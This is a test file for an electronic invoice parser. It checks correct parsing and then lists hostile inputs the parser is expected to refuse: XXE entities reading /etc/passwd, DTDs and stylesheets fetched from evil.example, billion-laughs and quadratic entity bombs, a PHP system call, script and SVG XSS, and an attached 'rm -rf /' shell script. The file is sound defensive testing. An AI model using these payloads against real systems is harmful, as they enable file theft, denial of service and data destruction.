import { describe, expect, it, test } from 'vitest'
import { documentTypes } from '@mandato/contract/invoices/document-types'
import { printElectronic } from '../../../papers/invoices/electronic.ts'
import { readPdf } from '../../../papers/samples/read-pdf.ts'
import { buyer, sampleXml, signed } from '../../../test/electronic-invoices.ts'
import { electronicInvoices } from './invoice.ts'
import { FileRefused } from './refused.ts'

/* What is read of an electronic invoice, and what is refused of files that are none or want something else. */
const company = { name: 'Cucine Esempio S.p.A.', brand: 'Cucine Esempio' }
describe('an electronic invoice', () => {
  it('is read with lines, discounts, references and every instalment, the days it leaves out worked out', () => {
    const [one] = electronicInvoices(sampleXml())
    expect(one).toMatchObject({
      type: 'TD24',
      number: '2025/1',
      date: '2025-08-31',
      buyer: { name: buyer.name, vat_number: buyer.vat_number, city: 'Treviso' },
      orders: ['OM-2025/00732'],
      transports: [{ number: '1187', date: '2025-08-31' }],
      lines: [
        {
          n: 1,
          code: 'CF60C-216',
          description: 'Colonna forno & cassettoni',
          price: 1458,
          changes: [
            { down: true, percent: 50 },
            { down: true, percent: 20 },
          ],
          total: 583.2,
        },
        { n: 2, code: null, quantity: 4.2, price: 9.600_000_01 },
      ],
      rates: [{ rate: 22, taxable: 623.52, tax: 137.17 }],
      total: 760.69,
      instalments: [
        { method: 'MP12', date: '2025-09-30', reckoned: false, amount: 380.34 },
        { method: 'MP05', date: '2025-10-30', reckoned: true, amount: 380.35 },
      ],
    })
  })

  const types = Object.keys(documentTypes)
  it('may be of every type of the format, and each is drawn under its name', async () => {
    expect(types).toHaveLength(19)
    for (const type of [...types, 'TD29']) {
      const [invoice] = electronicInvoices(sampleXml({ type }))
      if (!invoice) throw new Error(`${type} is not read`)
      const paper = { language: 'en' as const, company, invoice, sha256: '', drawnAt: new Date(0) }
      const { text } = await readPdf(await printElectronic(paper))
      // A title may stand in two lines.
      expect(text.replaceAll(/\s+/g, ' '), type).toContain(documentTypes[type]?.en ?? `Document ${type}`)
    }
  })

  it('may hold several documents, and be signed, once or twice, in DER or Base64', () => {
    const xml = sampleXml({ number: '1' }, { number: '2', type: 'TD04', gross: '-49.19' })
    const numbers = (data: Uint8Array) => electronicInvoices(data).map(({ number }) => number)
    const once = signed(xml)
    for (const data of [
      xml,
      once,
      signed(once),
      Buffer.from(once.toString('base64')),
      Buffer.from(`-----BEGIN PKCS7-----\n${once.toString('base64')}\n-----END PKCS7-----\n`),
    ])
      expect(numbers(data)).toEqual(['1', '2'])
  })

  it('is read in the encodings the format knows, and with attachments that are what they say', () => {
    const latin = Buffer.from(
      sampleXml({ number: '7' })
        .toString()
        .replace('UTF-8', 'ISO-8859-1')
        .replaceAll('’', "'")
        .replace('Viale della', 'Località'),
      'latin1',
    )
    expect(electronicInvoices(latin)[0]?.buyer.address).toBe('Località Repubblica 12')
    const pdf = Buffer.from('%PDF-1.7\nordine\n%%EOF\n')
    expect(
      electronicInvoices(sampleXml({ attachment: { name: 'ordine.pdf', data: pdf } }))[0]?.attachments,
    ).toEqual(['ordine.pdf'])
  })
})

const xml = sampleXml().toString()
const root = xml.indexOf('<p:FatturaElettronica')
const withHead = (head: string, text = xml) => Buffer.from(text.slice(0, root) + head + text.slice(root))
const changed = (from: string, to: string) => Buffer.from(xml.replace(from, to))
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
const program = Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(2_000, 7)])
const attached = (name: string, data: Uint8Array) => sampleXml({ attachment: { name, data } })
const length = (n: number) => Buffer.from([0x30, 0x84, n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255])

const hostile: readonly (readonly [string, Uint8Array, string])[] = [
  ['a DTD', withHead('<!DOCTYPE p:FatturaElettronica>'), 'dtd'],
  ['a DTD from outside', withHead('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'), 'dtd'],
  [
    'an external entity',
    withHead('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', xml.replace('TD24', '&x;')),
    'dtd',
  ],
  [
    'an entity of parameters',
    withHead('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'),
    'dtd',
  ],
  [
    'a billion laughs',
    withHead(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`, xml.replace('TD24', '&l9;')),
    'dtd',
  ],
  [
    'a quadratic blow-up',
    withHead(`<!DOCTYPE a [<!ENTITY x "${'x'.repeat(100_000)}">]>`, xml.replace('TD24', '&x;'.repeat(1_000))),
    'dtd',
  ],
  ['an entity without a definition', changed('TD24', '&secret;'), 'not_xml'],
  [
    'a stylesheet',
    withHead('<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?>'),
    'stylesheet',
  ],
  ['a program for the server', withHead('<?php system("id") ?>'), 'not_xml'],
  ['twenty megabytes', Buffer.alloc(20 * 1024 * 1024, 0x3c), 'too_large'],
  ['twenty megabytes signed', signed(Buffer.alloc(20 * 1024 * 1024, 0x3c)), 'too_large'],
  ['elements in elements', Buffer.from(`<a>${'<b>'.repeat(400_000)}`), 'too_deep'],
  ['elements without end', Buffer.from(`<a>${'<b/>'.repeat(900_000)}</a>`), 'too_much'],
  [
    'attributes without end',
    Buffer.from(`<a ${Array.from({ length: 50_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
    'too_much',
  ],
  ['a name without end', Buffer.from(`<${'a'.repeat(4_000_000)}`), 'not_xml'],
  ['a comment without end', Buffer.from(`<a><!--${'-'.repeat(3_000_000)}`), 'not_xml'],
  ['two letters to a letter', Buffer.from(xml, 'utf16le'), 'encoding'],
  ['an unknown encoding', changed('UTF-8', 'UTF-7'), 'encoding'],
  [
    'bytes that are no UTF-8',
    Buffer.concat([Buffer.from(xml.slice(0, 300)), Buffer.from([0xc3, 0x28]), Buffer.from(xml.slice(300))]),
    'encoding',
  ],
  ['a file cut in the middle', Buffer.from(xml.slice(0, 2_000)), 'not_xml'],
  ['two roots', Buffer.from(`${xml}<b/>`), 'not_xml'],
  ['a page', Buffer.from('<html><body><script>alert(1)</script></body></html>'), 'not_an_invoice'],
  [
    'a picture with a script',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'not_an_invoice',
  ],
  [
    'a simplified invoice',
    Buffer.from(xml.replaceAll('p:FatturaElettronica', 'p:FatturaElettronicaSemplificata')),
    'simplified',
  ],
  ['no documents', Buffer.from(xml.replaceAll('FatturaElettronicaBody', 'Niente')), 'field'],
  ['an amount that is none', changed('760.69', '1e999'), 'field'],
  ['a day that is none', changed('2025-08-31', '2025-02-30'), 'field'],
  ['no number', changed('<Numero>2025/1</Numero>', ''), 'field'],
  ['a program renamed to a p7m', program, 'not_signed'],
  ['words renamed to a p7m', Buffer.from('Gentile cliente, in allegato la fattura.'), 'not_signed'],
  ['a p7m without content', signed(Buffer.alloc(0)), 'not_signed'],
  [
    'a p7m wrapped nine times',
    Array.from({ length: 9 }).reduce<Buffer>((data) => signed(data), sampleXml()),
    'not_signed',
  ],
  ['a certificate for a p7m', Buffer.concat([length(4), Buffer.from([5, 0, 5, 0])]), 'not_signed'],
  [
    'sequences nested a hundred thousand times',
    Buffer.concat(Array.from({ length: 100_000 }, (_, i) => length((99_999 - i) * 6))),
    'not_signed',
  ],
  [
    'a p7m that says it is longer than it is',
    Buffer.concat([length(0x7f_ff_ff_ff), Buffer.alloc(100)]),
    'not_signed',
  ],
  ['a program attached as a paper', attached('ordine.pdf', program), 'attachment'],
  [
    'a page attached as words',
    attached('ordine.txt', Buffer.from('<script>alert(1)</script>')),
    'attachment',
  ],
  ['a script attached', attached('ordine.sh', Buffer.from('#!/bin/sh\nrm -rf /\n')), 'attachment'],
  [
    'an archive attached as a picture',
    attached('foto.png', Buffer.from('PK\x03\x04aaaaaaaaaaaaPK\x05\x06')),
    'attachment',
  ],
]

test.each(hostile)('%s is refused, cheaply', (_name, data, fault) => {
  const inUse = () => {
    const { heapUsed, arrayBuffers } = process.memoryUsage()
    return heapUsed + arrayBuffers
  }
  // The least of three: what a try leaves for the collector is in the figure or not, as that happens to come.
  const costs = [1, 2, 3].map(() => {
    const before = inUse()
    expect(faultOf(data)).toBe(fault)
    return inUse() - before
  })
  // What expands, or is built up whole before it is refused, costs hundreds of megabytes each time.
  expect(Math.min(...costs)).toBeLessThan(50 * 1024 * 1024)
})

function faultOf(data: Uint8Array): string {
  try {
    electronicInvoices(data)
  } catch (error) {
    if (error instanceof FileRefused) return error.fault
    throw error
  }
  return 'read'
}
